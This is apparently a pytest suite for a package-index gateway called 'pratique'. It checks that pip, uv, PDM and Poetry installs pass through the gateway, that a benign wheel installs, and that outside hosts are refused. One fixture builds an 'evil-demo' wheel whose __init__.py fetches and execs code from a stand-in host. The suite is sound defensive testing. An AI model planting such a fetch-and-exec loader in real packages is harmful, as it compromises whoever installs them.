"""``pratique run`` with real clients: what is fine arrives, what is not does not, and nothing goes past the gateway."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.support.clients import clients_folder, uv
from tests.support.distributions import make_wheel
from tests.support.installers import Asked
from tests.support.server import environment
from tests.support.upstream_server import LocalIndex

_STAGE = 'import urllib.request\nexec(urllib.request.urlopen("http://c.example.invalid/a").read())\n'
_PROJECT = '[project]\nname = "asking"\nversion = "1"\nrequires-python = ">=3.11"\ndependencies = ["{}"]\n'
_PIP = (sys.executable, "-m", "pip", "install", "--no-cache-dir", "--only-binary", ":all:", "--target", "site")
_UV = (uv(), "pip", "install", "--no-cache", "--target", "site")


@pytest.fixture(scope="module")
def upstream() -> Iterator[str]:
    """An index with one project that is fine, and one that is not."""
    index = LocalIndex()
    index.add(make_wheel("fine-demo", "1.0", {"fine_demo/__init__.py": "VALUE = 1\n"}))
    index.add(make_wheel("evil-demo", "1.0", {"evil_demo/__init__.py": _STAGE}))
    with index.serving_in_thread() as url:
        yield url


def _run(folder: Path, upstream: str, *command: str, **told: str) -> Asked:
    settings = {
        "HOME": str(folder),
        "XDG_CACHE_HOME": str(folder / "cache"),
        "NO_COLOR": "1",
        "PDM_USE_VENV": "false",
        "PDM_PYTHON": sys.executable,
        "POETRY_VIRTUALENVS_CREATE": "false",
        "PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring",
        **told,
    }
    done = subprocess.run(
        [sys.executable, "-m", "pratique", "run", "--upstream", upstream, *command],
        env={**environment(), **settings},
        cwd=folder,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        stdin=subprocess.DEVNULL,
        text=True,
        timeout=180,
        check=False,
    )
    return Asked(status=done.returncode, printed=done.stdout)


@pytest.mark.parametrize("client", [_PIP, _UV], ids=["pip", "uv"])
def test_what_is_fine_is_installed_and_what_is_not_is_refused(
    client: tuple[str, ...], upstream: str, tmp_path: Path
) -> None:
    """The status is the client's, the reason is told at the end, and a second run inspects nothing again."""
    first = _run(tmp_path, upstream, "--", *client, "fine-demo")
    assert first.status == 0, first.printed
    assert (tmp_path / "site" / "fine_demo" / "__init__.py").exists()
    assert "1 file passed on, 0 refused; 1 inspected now" in first.printed
    anew = "--reinstall" if client is _UV else "--force-reinstall"
    again = _run(tmp_path, upstream, "--", *client, "--upgrade", anew, "fine-demo")
    assert "1 file passed on, 0 refused; 0 inspected now" in again.printed
    evil = _run(tmp_path, upstream, "--", *client, "evil-demo")
    assert evil.status, evil.printed
    assert "pratique: refused evil_demo-1.0-py3-none-any.whl: second-stage in evil_demo/__init__.py:2" in evil.printed
    assert not (tmp_path / "site" / "evil_demo").exists()


def test_pdm_locks_through_the_gateway(upstream: str, tmp_path: Path) -> None:
    """PDM needs nothing in its project, and its lock file names no address of ours."""
    (tmp_path / "pyproject.toml").write_text(_PROJECT.format("fine-demo") + "[tool.pdm]\ndistribution = false\n")
    done = _run(tmp_path, upstream, "--", str(clients_folder() / "pdm"), "lock", "--no-cross-platform")
    assert done.status == 0, done.printed
    lock = (tmp_path / "pdm.lock").read_text()
    assert ("fine_demo-1.0" in lock, "127.0.0.1" in lock) == (True, False)


@pytest.mark.parametrize(
    ("tool", "command", "section"),
    [
        ("poetry", "lock", '[tool.poetry]\npackage-mode = false\n[[tool.poetry.source]]\nname = "ours"\nurl = "{}"\n'),
        ("uv", "lock", '[tool.uv]\npackage = false\n[[tool.uv.index]]\nurl = "{}"\ndefault = true\n'),
    ],
)
def test_a_project_that_names_the_address_is_served_there(
    tool: str, command: str, section: str, upstream: str, tmp_path: Path, unused_tcp_port: int
) -> None:
    """Poetry and uv keep the index's address in the project: without one they are refused, and told what to add."""
    program = uv() if tool == "uv" else str(clients_folder() / tool)
    (tmp_path / "pyproject.toml").write_text(_PROJECT.format("fine-demo"))
    refused = _run(tmp_path, upstream, "--", program, command)
    assert (refused.status, "http://127.0.0.1:8471/simple/" in refused.printed) == (2, True)
    address = f"http://127.0.0.1:{unused_tcp_port}/simple/"
    (tmp_path / "pyproject.toml").write_text(_PROJECT.format("fine-demo") + section.format(address))
    done = _run(tmp_path, upstream, "--", program, command, UV_PYTHON=sys.executable)
    assert done.status == 0, done.printed
    assert address.rstrip("/") in (tmp_path / f"{tool}.lock").read_text()


def test_nothing_reaches_another_host(upstream: str, tmp_path: Path) -> None:
    """A client that nobody recognises, in a script, is met by the fence where it leaves the path."""
    script = f"exec {sys.executable} -m pip download --retries 0 --no-deps http://files.example.invalid/demo-1.0.zip"
    done = _run(tmp_path, upstream, "--", "sh", "-c", script)
    assert done.status == 1
    assert "pratique: refused files.example.invalid, which was asked for past the gateway" in done.printed
    assert (tmp_path / "cache" / "pratique" / "pratique.db").exists()
